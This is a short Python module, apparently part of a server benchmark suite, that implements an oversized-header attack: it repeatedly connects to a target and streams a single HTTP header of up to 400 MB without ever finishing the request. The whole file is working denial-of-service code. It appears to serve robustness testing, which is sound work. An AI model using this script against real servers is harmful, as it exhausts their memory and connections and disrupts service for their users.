"""One header of 400 MB in a request that never ends."""

from __future__ import annotations

import asyncio

from benchmarks.attacks.target import Target, pause

SIZE, PART = 400_000_000, 256 * 1024


async def attack(target: Target, stop: asyncio.Event) -> None:
    """As fast as the server reads it; whoever is closed begins again."""
    while not stop.is_set():
        try:
            _, writer = await target.connect()
            writer.write(f"GET /api/games HTTP/1.1\r\nHost: {target.address}\r\nX-Long: ".encode())
            sent = 0
            while not stop.is_set() and sent < SIZE:
                writer.write(b"a" * PART)
                await writer.drain()
                sent += PART
            await pause(stop, 1.0)
            writer.transport.abort()
        except (OSError, TimeoutError):
            await pause(stop, 0.05)
